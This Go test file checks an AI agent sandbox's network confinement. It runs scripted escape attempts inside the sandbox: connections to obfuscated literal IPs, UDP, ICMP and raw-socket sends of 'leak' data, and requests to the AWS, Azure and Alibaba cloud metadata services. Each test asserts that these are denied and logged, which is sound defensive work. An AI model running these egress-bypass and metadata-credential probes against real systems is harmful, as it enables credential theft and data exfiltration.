package runner_test

import (
	"fmt"
	"io"
	"net"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/yolo-run/yolo-run/reports"
)

// Attack 8: literal addresses, in every form, are by construction not from our DNS.
func TestAttack8LiteralAddressesAreDenied(t *testing.T) {
	t.Parallel()
	n := needInternet(t)
	r := try(t, `
for port in 80 443 22 5432; do
  curl -sk -m 3 -o /dev/null telnet://`+internetAddr+`:$port </dev/null; echo literal-$port=$?
done
curl -sf -m 3 -o /dev/null http://0xC6336435/; echo hex=$?
curl -sf -m 3 -o /dev/null http://3325256757/; echo decimal=$?
curl -sf -m 3 -o /dev/null 'http://[2001:db8::1]/'; echo ipv6=$?
curl -sf -m 3 -o /dev/null http://allowed.test/; echo control=$?
curl -s -m 3 telnet://allowed.test:22 </dev/null >/dev/null; echo control-22=$?
`, online(n, "allowed.test", "allowed.test:22"))
	r.want(t, reports.NoChanges)
	for _, name := range []string{"hex", "decimal", "ipv6"} {
		if r.says(t, name) == "0" {
			t.Errorf("a literal address in the form %s was connected", name)
		}
	}
	if r.says(t, "control") != "0" {
		t.Error("control: the allowed name was not reached")
	}
	for _, port := range []int{80, 443, 22, 5432} {
		denied := r.find(reports.Deny, func(e reports.Event) bool {
			return e.Addr == internetAddr && e.Port == port && e.Layer == reports.LayerTCP
		})
		if len(denied) == 0 {
			t.Errorf("the connection to %s:%d is not on record", internetAddr, port)
			continue
		}
		if denied[0].Process == nil || !strings.HasSuffix(denied[0].Process.Exe, "/curl") {
			t.Errorf("port %d: the process is not named: %+v", port, denied[0])
		}
	}
	if got := n.seen(t, "tcp 5432"); len(got) > 0 {
		t.Errorf("a literal connection arrived: %q", got)
	}
	if got := n.seen(t, "tcp 22"); len(got) == 0 {
		t.Error("control: the named port of the allowed name did not arrive, so this test would see nothing")
	}
}

// Attack 11: everything that is not TCP.
func TestAttack11OtherProtocolsAreClosed(t *testing.T) {
	t.Parallel()
	n := needInternet(t)
	control := n.datagram(t)
	r := try(t, `python3 - <<'PY'
import socket, errno, time, struct, ctypes
to = "`+internetAddr+`"
def attempt(name, f):
    begun = time.monotonic()
    try:
        f(); result = "open"
    except OSError as e:
        result = errno.errorcode.get(e.errno, str(e.errno))
    print(f"{name}={result}")
    print(f"{name}-ms={int((time.monotonic()-begun)*1000)}")
def sendto():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
    s.sendto(b"leak", (to, 9999)); s.sendto(b"leak", (to, 9999)); s.recv(10)
def connected():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.connect((to, 9999))
    s.send(b"leak"); s.send(b"leak"); s.recv(10)
def quic():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.connect((to, 443)); s.send(b"\xc0\0\0\0\1"*40); s.send(b"leak"); s.recv(10)
def ping():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP); s.settimeout(2)
    s.connect((to, 0)); s.send(struct.pack("!BBHHH", 8, 0, 0, 1, 1) + b"leak"); s.recv(100)
def sctp(): socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132).connect((to, 9999))
attempt("sendto", sendto); attempt("connected", connected); attempt("quic", quic); attempt("ping", ping)
libc = ctypes.CDLL(None, use_errno=True)
class iovec(ctypes.Structure): _fields_ = [("base", ctypes.c_char_p), ("len", ctypes.c_size_t)]
class msghdr(ctypes.Structure): _fields_ = [
    ("name", ctypes.c_void_p), ("namelen", ctypes.c_uint32), ("iov", ctypes.POINTER(iovec)), ("iovlen", ctypes.c_size_t),
    ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t), ("flags", ctypes.c_int)]
class mmsghdr(ctypes.Structure): _fields_ = [("hdr", msghdr), ("len", ctypes.c_uint)]
def sendmmsg():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
    addr = ctypes.create_string_buffer(struct.pack("=HH4s8x", socket.AF_INET, socket.htons(9999), socket.inet_aton(to)))
    iov = iovec(b"leak", 4); m = (mmsghdr * 2)()
    for i in range(2):
        m[i].hdr.name = ctypes.addressof(addr); m[i].hdr.namelen = 16; m[i].hdr.iov = ctypes.pointer(iov); m[i].hdr.iovlen = 1
    if libc.sendmmsg(s.fileno(), m, 2, 0) < 0: raise OSError(ctypes.get_errno(), "sendmmsg")
    s.recv(10)
attempt("sendmmsg", sendmmsg)
attempt("sctp", sctp)
attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 255))
attempt("packet", lambda: socket.socket(17, socket.SOCK_RAW, 0x0300))
attempt("vsock", lambda: socket.socket(40, socket.SOCK_STREAM))
attempt("unix-control", lambda: socket.socket(socket.AF_UNIX))
def loopback():
    a = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); a.bind(("127.0.0.1", 0)); b = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    b.sendto(b"x", a.getsockname()); a.settimeout(2); a.recv(10)
attempt("loopback-control", loopback)
PY
`, online(n, "allowed.test"))
	r.want(t, reports.NoChanges)
	for _, name := range []string{"sendto", "connected", "quic", "ping", "sendmmsg", "sctp", "raw", "packet", "vsock"} {
		if r.says(t, name) == "open" {
			t.Errorf("%s went out", name)
		}
	}
	for _, name := range []string{"unix-control", "loopback-control"} {
		if got := r.says(t, name); got != "open" {
			t.Errorf("%s: %s, want open", name, got)
		}
	}
	if got := n.seen(t, "udp "); !slices.Equal(got, []string{control}) {
		t.Errorf("datagrams arrived: %q, want only the control's, %q", got, control)
	}
	recorded := map[reports.Layer]int{reports.LayerUDP: 9999, reports.LayerICMP: 0}
	if r.says(t, "ping") == "EACCES" { // an engine with a user namespace opens no ping sockets: there was no packet
		delete(recorded, reports.LayerICMP)
	}
	for layer, port := range recorded {
		if len(r.find(reports.Deny, func(e reports.Event) bool { return e.Layer == layer && e.Port == port })) == 0 {
			t.Errorf("no denial of %s port %d is on record", layer, port)
		}
	}
	if len(r.find(reports.Deny, func(e reports.Event) bool { return e.Layer == reports.LayerUDP && e.Port == 443 })) == 0 {
		t.Error("the denied QUIC is not on record")
	}
}

// datagram sends one from this machine, which the internet answers, and returns its line in the record.
func (n internet) datagram(t *testing.T) string {
	t.Helper()
	conn, err := net.DialTimeout("udp4", internetAddr+":9999", 10*time.Second)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	if err := conn.SetDeadline(time.Now().Add(10 * time.Second)); err != nil {
		t.Fatal(err)
	}
	const text = "not of the agent's"
	if _, err := io.WriteString(conn, text); err != nil {
		t.Fatal(err)
	}
	if _, err := conn.Read(make([]byte, 16)); err != nil {
		t.Fatalf("control: the internet does not answer a datagram: %v", err)
	}
	return fmt.Sprintf("udp 9999 %d", len(text))
}

// Attack 12: metadata services, the next hop, neighbours.
func TestAttack12MetadataAndNeighboursAreClosed(t *testing.T) {
	t.Parallel()
	n := needInternet(t)
	listener, err := new(net.ListenConfig).Listen(t.Context(), "tcp", "198.51.100.1:0")
	if err != nil {
		t.Fatalf("listen on the bridge of the test's internet: %v", err)
	}
	defer listener.Close()
	arrived := make(chan struct{}, 1)
	go func() {
		for {
			conn, err := listener.Accept()
			if err != nil {
				return
			}
			arrived <- struct{}{}
			conn.Close()
		}
	}()
	_, port, _ := net.SplitHostPort(listener.Addr().String())
	r := try(t, `
curl -sf -m 3 -H 'Metadata-Flavor: Google' -H 'Metadata: true' http://169.254.169.254/latest/meta-data/; echo aws=$?
curl -sf -m 3 -X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 60' http://169.254.169.254/latest/api/token; echo imds2=$?
curl -sf -m 3 http://168.63.129.16/; echo azure=$?
curl -sf -m 3 http://100.100.100.200/; echo alibaba=$?
curl -sf -m 3 http://198.51.100.1:`+port+`/; echo hop=$?
curl -sf -m 3 http://`+internetAddr+`:8099/seen; echo neighbour=$?
python3 -m http.server 7777 --bind 0.0.0.0 >/dev/null 2>&1 &
for i in $(seq 50); do curl -sf -m 3 -o /dev/null http://127.0.0.1:7777/ && break; sleep 0.1; done; echo own=$?
`, online(n, "allowed.test"))
	r.want(t, reports.NoChanges)
	for _, name := range []string{"aws", "imds2", "azure", "alibaba", "hop", "neighbour"} {
		if r.says(t, name) == "0" {
			t.Errorf("%s was reached", name)
		}
	}
	if got := r.says(t, "own"); got != "0" {
		t.Errorf("control: the agent does not reach its own server on loopback: %s", got)
	}
	select {
	case <-arrived:
		t.Error("the next hop was reached")
	default:
	}
	for _, addr := range []string{"169.254.169.254", "168.63.129.16", "100.100.100.200", "198.51.100.1"} {
		if len(r.find(reports.Deny, func(e reports.Event) bool { return e.Addr == addr })) == 0 {
			t.Errorf("the attempt to reach %s is not on record", addr)
		}
	}
}
